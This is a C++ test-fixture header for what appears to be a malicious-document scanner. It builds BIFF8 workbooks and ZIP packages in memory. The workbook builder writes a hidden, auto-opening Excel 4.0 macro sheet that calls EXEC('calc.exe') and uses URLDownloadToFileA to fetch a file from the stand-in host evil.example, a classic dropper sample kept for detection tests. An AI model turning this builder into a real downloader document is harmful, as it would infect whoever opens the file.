// Test-only builders for the Office fixtures of the xlm/ooxml/rtf/onenote/
// lnk tests: little-endian packing, BIFF records, BIFF8 workbooks with a
// macro sheet, and in-memory ZIP packages (libzip).
#pragma once

#include <zip.h>

#include <cstdint>
#include <stdexcept>
#include <string>
#include <utility>
#include <vector>

#include "emogate/scanner.h"
#include "unit/findings.h"

namespace emogate::test {

inline std::string u8(std::uint8_t v) { return std::string(1, char(v)); }
inline std::string u16(std::uint16_t v) { return {char(v & 0xFF), char(v >> 8)}; }
inline std::string u32(std::uint32_t v) { return u16(std::uint16_t(v)) + u16(std::uint16_t(v >> 16)); }
inline std::string u64(std::uint64_t v) { return u32(std::uint32_t(v)) + u32(std::uint32_t(v >> 32)); }
inline std::string utf16(std::string_view ascii) {
  std::string s;
  for (char c : ascii) s += std::string{c, '\0'};
  return s;
}

inline std::string biff(std::uint16_t type, const std::string& data) {
  return u16(type) + u16(std::uint16_t(data.size())) + data;
}

// Parsed-formula helpers (BIFF8 Ptg tokens).
inline std::string ptg_str(std::string_view s) {
  return u8(0x17) + u8(std::uint8_t(s.size())) + u8(0) + std::string(s);
}
inline std::string ptg_funcvar(std::uint8_t argc, std::uint16_t tab) {
  return u8(0x42) + u8(argc) + u16(tab);
}
inline std::string formula_cell(std::uint16_t row, std::uint16_t col, const std::string& rgce) {
  return biff(0x0006, u16(row) + u16(col) + u16(15) + std::string(8, '\0') + u16(0) + u32(0) +
                          u16(std::uint16_t(rgce.size())) + rgce);
}

struct Workbook {
  std::string stream;
  std::size_t filepass_end = 0;  // offset after FILEPASS (0 when none)
};

// A BIFF8 Workbook stream: globals with BOUNDSHEETs for "Sheet1" (worksheet)
// and `macro_name` (macro sheet, hsState `state`), an optional built-in
// Auto_Open NAME, optional FILEPASS data; then the two substreams. The macro
// sheet calls EXEC("calc.exe") and CALL("urlmon","URLDownloadToFileA",...).
// `sheet1_cells` / `macro_cells` (records) fill the worksheet / the macro
// sheet, e.g. for benchmarks.
inline Workbook biff8_workbook(int state = 2, bool auto_open = true, const std::string& filepass = {},
                               const std::string& macro_name = "Macro1",
                               const std::string& sheet1_cells = {},
                               const std::string& macro_cells = {}) {
  auto bof = [](std::uint16_t dt) { return biff(0x0809, u16(0x0600) + u16(dt) + std::string(12, '\0')); };
  auto sheet = [](std::uint32_t pos, int st, int dt, const std::string& name) {
    return biff(0x0085, u32(pos) + u8(std::uint8_t(st)) + u8(std::uint8_t(dt)) +
                            u8(std::uint8_t(name.size())) + u8(0) + name);
  };
  std::string pre = bof(0x0005);
  std::string fp = filepass.empty() ? std::string() : biff(0x002F, filepass);
  std::string name;
  if (auto_open) {
    std::string rgce = u8(0x3A) + u16(0) + u16(0) + u16(0);  // PtgRef3d Macro1!R1C1
    name = biff(0x0018, u16(0x0020) + u8(0) + u8(1) + u16(std::uint16_t(rgce.size())) + u16(0) +
                            u16(0) + std::string(4, '\0') + u8(0) + u8(1) + rgce);
  }
  std::string eof = biff(0x000A, "");
  std::string sheet1 = bof(0x0010) + sheet1_cells + eof;
  std::string exec = ptg_str("calc.exe") + ptg_funcvar(1, 110);
  std::string call = ptg_str("urlmon") + ptg_str("URLDownloadToFileA") + ptg_str("JJCCJJ") + u8(0x1E) +
                     u16(0) + ptg_str("http://evil.example/p.exe") + ptg_str("C:\\p.exe") +
                     u8(0x1E) + u16(0) + u8(0x1E) + u16(0) + ptg_funcvar(8, 150);
  std::string macro = bof(0x0040) + formula_cell(0, 0, exec) + formula_cell(1, 0, call) +
                      biff(0x0204, u16(2) + u16(0) + u16(15) + u16(5) + u8(0) + "hello") +
                      formula_cell(3, 0, ptg_funcvar(0, 54)) + macro_cells + eof;
  // Offsets depend on the globals' length, which the BOUNDSHEETs are part of.
  std::size_t sheets_len = sheet(0, 0, 0, "Sheet1").size() + sheet(0, 0, 0, macro_name).size();
  std::size_t globals = pre.size() + fp.size() + sheets_len + name.size() + eof.size();
  Workbook wb;
  wb.stream = pre + fp + sheet(std::uint32_t(globals), 0, 0, "Sheet1") +
              sheet(std::uint32_t(globals + sheet1.size()), state, 1, macro_name) + name + eof +
              sheet1 + macro;
  wb.filepass_end = fp.empty() ? 0 : pre.size() + fp.size();
  return wb;
}

// ZIP in memory, entries stored in the given order.
inline std::string zip_bytes(const std::vector<std::pair<std::string, std::string>>& files) {
  zip_error_t err;
  zip_error_init(&err);
  zip_source_t* buf = zip_source_buffer_create(nullptr, 0, 0, &err);
  zip_t* z = zip_open_from_source(buf, ZIP_TRUNCATE, &err);
  if (!z) throw std::runtime_error("zip_open_from_source");
  for (auto& [name, data] : files) {
    zip_source_t* s = zip_source_buffer(z, data.data(), data.size(), 0);
    if (zip_file_add(z, name.c_str(), s, ZIP_FL_ENC_UTF_8) < 0) throw std::runtime_error("zip_file_add");
  }
  zip_source_keep(buf);
  if (zip_close(z) < 0) throw std::runtime_error("zip_close");
  std::string out;
  if (zip_source_open(buf) == 0) {
    char tmp[8192];
    zip_int64_t n;
    while ((n = zip_source_read(buf, tmp, sizeof tmp)) > 0) out.append(tmp, std::size_t(n));
    zip_source_close(buf);
  }
  zip_source_free(buf);
  return out;
}

}  // namespace emogate::test
